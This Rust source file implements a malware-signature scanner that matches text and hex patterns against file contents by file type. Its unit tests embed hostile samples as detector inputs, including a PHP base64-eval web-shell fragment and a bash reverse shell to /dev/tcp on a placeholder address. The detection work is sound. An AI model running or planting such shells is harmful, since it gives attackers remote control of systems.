//! Texts and bytes that belong to attacks. `signatures.txt` explains the format.

use memchr::memmem;

use super::lists::shortened;

/// Patterns are at most this long: our choice, far above any there is.
const PATTERN_BYTES_MAX: usize = 256;

struct Signature {
    kind: String,
    pattern: Pattern,
    shown: String,
}

enum Pattern {
    Text { text: Vec<u8>, any_case: bool },
    Bytes { bytes: Vec<u8>, at_start: bool },
}

/// All signatures.
pub(super) struct Signatures(Vec<Signature>);

impl Signatures {
    /// Those of `signatures.txt`.
    pub(super) fn built_in() -> Self {
        let mut signatures = Self(Vec::new());
        let lines = include_str!("signatures.txt").lines().map(str::trim);
        for line in lines.filter(|l| !l.is_empty() && !l.starts_with('#')) {
            signatures.add(line).expect("a test reads the built-in file");
        }
        signatures
    }

    pub(super) fn add(&mut self, line: &str) -> Result<(), String> {
        let mut parts = line.splitn(3, char::is_whitespace);
        let (Some(kind), Some(how), Some(text)) = (parts.next(), parts.next(), parts.next().map(str::trim)) else {
            return Err("has no TYPE KIND PATTERN".to_owned());
        };
        if text.is_empty() || text.len() > PATTERN_BYTES_MAX {
            return Err(format!("has a pattern that is empty or above {PATTERN_BYTES_MAX} bytes"));
        }
        let bytes = || bytes(text).ok_or_else(|| format!("{} is not bytes in hexadecimal", shortened(text)));
        let pattern = match how {
            "text" => Pattern::Text { text: text.as_bytes().to_vec(), any_case: false },
            "itext" => Pattern::Text { text: text.to_ascii_lowercase().into_bytes(), any_case: true },
            "hex" => Pattern::Bytes { bytes: bytes()?, at_start: false },
            "hex@0" => Pattern::Bytes { bytes: bytes()?, at_start: true },
            other => return Err(format!("{} is not text, itext, hex or hex@0", shortened(other))),
        };
        self.0.push(Signature { kind: kind.to_ascii_lowercase(), pattern, shown: format!("{kind}: {text}") });
        Ok(())
    }

    /// The signatures of these types that the content has, each once.
    pub(super) fn found(&self, kinds: &[&str], content: &[u8]) -> Vec<String> {
        let lowered = std::cell::OnceCell::new();
        let mut found: Vec<String> = Vec::new();
        for signature in self.0.iter().filter(|s| s.kind == "any" || kinds.contains(&s.kind.as_str())) {
            let is_there = match &signature.pattern {
                Pattern::Bytes { bytes, at_start: true } => content.starts_with(bytes),
                Pattern::Bytes { bytes, at_start: false } => memmem::find(content, bytes).is_some(),
                Pattern::Text { text, any_case } => {
                    let members = signature.kind == "js";
                    let content =
                        if *any_case { lowered.get_or_init(|| content.to_ascii_lowercase()) } else { content };
                    contains(content, text, members)
                }
            };
            if is_there && !found.contains(&signature.shown) {
                found.push(signature.shown.clone());
            }
        }
        found
    }
}

fn bytes(hex: &str) -> Option<Vec<u8>> {
    let digits: Vec<u8> = hex.bytes().filter(|b| !b.is_ascii_whitespace()).collect();
    if digits.is_empty() || !digits.len().is_multiple_of(2) {
        return None;
    }
    digits.chunks(2).map(|pair| u8::from_str_radix(std::str::from_utf8(pair).ok()?, 16).ok()).collect()
}

/// Whether the pattern is there as words of its own; with `members` also behind a dot.
fn contains(content: &[u8], pattern: &[u8], members: bool) -> bool {
    // What comes before the first blank is looked for as it is, the rest is compared there.
    let first = pattern.iter().position(|b| matches!(b, b' ' | b'(')).filter(|at| *at > 0).unwrap_or(pattern.len());
    memmem::find_iter(content, &pattern[..first]).any(|at| {
        let before = at.checked_sub(1).map(|i| content[i]);
        let free = match before {
            Some(b) if is_word(pattern[0]) => !is_word(b) && (members || !matches!(b, b'.' | b'>')),
            _ => true,
        };
        free && rest_matches(&content[at + first..], &pattern[first..], is_word(pattern[pattern.len() - 1]))
    })
}

fn rest_matches(mut content: &[u8], pattern: &[u8], ends_with_word: bool) -> bool {
    const BLANKS_MAX: usize = 64;
    for byte in pattern {
        let blanks = content.iter().take(BLANKS_MAX).take_while(|b| matches!(b, b' ' | b'\t')).count();
        match byte {
            b' ' if blanks == 0 => return false,
            b' ' => content = &content[blanks..],
            b'(' if content.get(blanks) == Some(&b'(') => content = &content[blanks + 1..],
            _ if content.first() == Some(byte) => content = &content[1..],
            _ => return false,
        }
    }
    !(ends_with_word && content.first().is_some_and(|b| is_word(*b)))
}

const fn is_word(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || byte == b'_'
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(kind: &str, content: &str) -> Vec<String> {
        let found = Signatures::built_in().found(&[kind], content.as_bytes());
        found.into_iter().map(|f| f.split_once(": ").unwrap().1.to_owned()).collect()
    }

    #[test]
    fn calls_are_found_as_words_of_their_own() {
        assert_eq!(found("php", "<?php @EVAL (base64_decode($_POST['x']));"), ["eval(", "base64_decode("]);
        assert_eq!(found("php", "<?php shell_exec('id');"), ["shell_exec("]);
        assert_eq!(found("php", "<?php retrieval(1); $db->exec('x'); filesystem(); // evaluate"), [""; 0]);
        assert_eq!(found("js", "window.eval(x); new Function('a')"), ["eval(", "Function("]);
        assert_eq!(found("js", "function (a) {}; function f() {}"), [""; 0]);
        assert_eq!(found("js", "document.write(atob('eA=='))"), ["document.write(atob("]);
        assert_eq!(found("py", "import subprocess\nos.system('id')\nmodel.eval()"), ["os.system", "subprocess"]);
        assert_eq!(found("sh", "chmod  +x a; bash -i >& /dev/tcp/192.0.2.1/1"), ["chmod +x", "bash -i"]);
        assert_eq!(found("sh", "libcurl-dev; rm -rfv x"), [""; 0]);
        assert_eq!(found("bat", "DEL a\r\ncopy b c\r\nmodel"), ["del", "copy"]);
        assert_eq!(found("vbs", "Set s = CreateObject(\"WScript.Shell\")"), ["CreateObject", "WScript.Shell"]);
        assert_eq!(found("txt", "eval(system('x'))"), [""; 0], "other types have other signatures");
    }

    #[test]
    fn bytes_are_found_where_they_belong() {
        let signatures = Signatures::built_in();
        assert_eq!(signatures.found(&["exe"], b"MZ\x90\0...PE\0\0").len(), 2);
        assert_eq!(signatures.found(&["exe"], b" MZ\x90\0").len(), 0);
        let mut own = Signatures(Vec::new());
        own.add("any hex de ad BE ef").unwrap();
        assert_eq!(own.found(&[], b"\xde\xad\xbe\xef"), ["any: de ad BE ef"]);
        for bad in ["any hex abc", "any hex zz", "any text", "any", "any text "] {
            assert!(own.add(bad).is_err(), "{bad}");
        }
    }
}
